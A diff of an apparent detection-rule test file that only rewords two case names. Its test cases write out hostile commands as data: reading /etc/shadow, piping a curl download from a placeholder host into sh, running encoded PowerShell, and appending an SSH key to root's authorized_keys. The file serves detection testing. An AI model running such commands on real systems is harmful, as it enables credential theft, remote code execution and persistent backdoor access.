@@ -16,7 +16,7 @@ const ENCODED = Buffer.from(
 const ATTACKS: readonly RuleCase[] = [
   { name: 'Atomic Red Team reads the shadow file', activity: now('cat /etc/shadow'), expected: 'high' },
   {
-    name: 'Stratus Red Team tells who and where it is',
+    name: 'Stratus Red Team shows who and where it is',
     activity: now('echo "id=$(id), hostname=$(hostname)"'),
     expected: 'low',
   },
@@ -84,7 +84,7 @@ const ATTACKS: readonly RuleCase[] = [
   { name: 'a download into a shell', activity: now('curl -fsS http://203.0.113.9/x.sh | sh'), expected: 'high' },
   { name: 'a download that PowerShell runs, encoded', activity: now(`powershell -enc ${ENCODED}`), expected: 'high' },
   {
-    name: 'a key for whoever has it',
+    name: 'a key for anyone who has it',
     activity: now('echo "ssh-ed25519 AAAA somebody" >> /root/.ssh/authorized_keys'),
     expected: 'high',
   },
